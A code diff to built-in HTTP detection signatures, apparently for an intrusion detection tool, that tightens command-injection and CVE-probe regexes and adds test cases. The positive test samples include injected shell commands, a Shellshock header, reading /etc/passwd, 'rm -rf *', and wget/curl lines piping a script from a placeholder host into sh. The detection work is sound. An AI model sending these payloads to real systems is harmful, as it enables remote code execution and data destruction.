@@ -108,10 +108,11 @@ const std::vector<SignatureRule>& BuiltinSignatures() {
 
       // ---- http-rce-probing: command injection, SSTI, code evaluation
       {"rce-shell-command", "http-rce-probing", kAnyText,
-       R"([;|&`]\s*(id|whoami|uname(\s+-a)?|ifconfig|ipconfig|cat\s+/etc/\w+|ls\s+-la|nc\s+-e|ncat\s|bash\s+-i|/bin/(ba|z|da)?sh|python[23]?\s+-c|perl\s+-e|php\s+-r|powershell)\b|\$\(\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b|`\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b[^`]*`)",
+       R"(([;|`]|&&)\s*(id|whoami|uname(\s+-a)?|ifconfig|ipconfig|cat\s+/etc/\w+|ls\s+-la|nc\s+-e|ncat\s|bash\s+-i|/bin/(ba|z|da)?sh|python[23]?\s+-c|perl\s+-e|php\s+-r|powershell)\b|\$\(\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b|`\s*(id|whoami|uname|cat|ls|wget|curl|sleep|echo|nslookup|ping)\b[^`]*`)",
        {"/ping?host=127.0.0.1%3B%24(id)", "/run?x=%60cat%20/etc/passwd%60", "/x?c=1|whoami", "ua:() { :; }; /bin/bash -c 'id'",
+        "/x?h=1%26%26id",
         "/x?h=a;cat /etc/passwd"},
-       {"/blog/shell-beach-trip", "/search?q=exec+chair", "/x?a=1&id=2", "/search?q=rock+%26+roll"}},
+       {"/blog/shell-beach-trip", "/search?q=exec+chair", "/x?a=1&id=2", "/x?a=1&whoami=me", "/search?q=rock+%26+roll"}},
       {"rce-download-exec", "http-rce-probing", kAnyText,
        R"(\b(wget|curl|fetch|tftp|busybox\s+wget)\s+(-[\w-]+\s+)*['"]?(https?|ftp|tftp)://|\|\s*(ba|z|da)?sh\b|\bchmod\s+[+0-7]*x?\s+/?(tmp|var/tmp|dev/shm)/|/tmp/[\w.-]+\s*;\s*\./)",
        {"/cgi-bin/test?cmd=;wget%20http://203.0.113.66/x.sh%20-O-%7Csh", "ua:curl http://203.0.113.66/x | sh",
@@ -194,7 +195,7 @@ const std::vector<SignatureRule>& BuiltinSignatures() {
        {"/secure/ContactAdministrators!default.jspa", "/plugins/servlet/oauth/users/icon-uri?consumerUri=http://x"},
        {"/secure/Dashboard.jspa"}},
       {"other-cve-probe", "http-cve-probing", kUri,
-       R"(/pages/createpage-entervariables\.action|/vpn/\.\./vpns/|/gponform/diag_form|/sdk/weblanguage|/wls-wsat/coordinatorporttype|/user/register\?element_parents=|/_ignition/execute-solution|/cgi-bin/(kerbynet|nslookup\.cgi)|/boaform/admin/formlogin|/setup\.cgi\?next_file=netgear\.cfg|/shell\?cd\+/tmp|/hudson/script|/mgmt/tm/util/bash|/api/v1/totp/user-backup-code/\.\./)",
+       R"(/pages/createpage-entervariables\.action|/vpn/\.\./vpns/|/gponform/diag_form|/sdk/weblanguage|/wls-wsat/coordinatorporttype|/user/register\?element_parents=|/_ignition/execute-solution|/cgi-bin/(kerbynet|nslookup\.cgi)|/boaform/admin/formlogin|/setup\.cgi\?next_file=netgear\.cfg|/shell\?cd[+ ]/tmp|/hudson/script|/mgmt/tm/util/bash|/api/v1/totp/user-backup-code/\.\./)",
        {"/pages/createpage-entervariables.action?SpaceKey=x", "/vpn/../vpns/cfg/smb.conf", "/GponForm/diag_Form?images/",
         "/_ignition/execute-solution", "/mgmt/tm/util/bash", "/shell?cd+/tmp;rm+-rf+*"},
        {"/pages/about", "/vpn/", "/shell-beach"}},
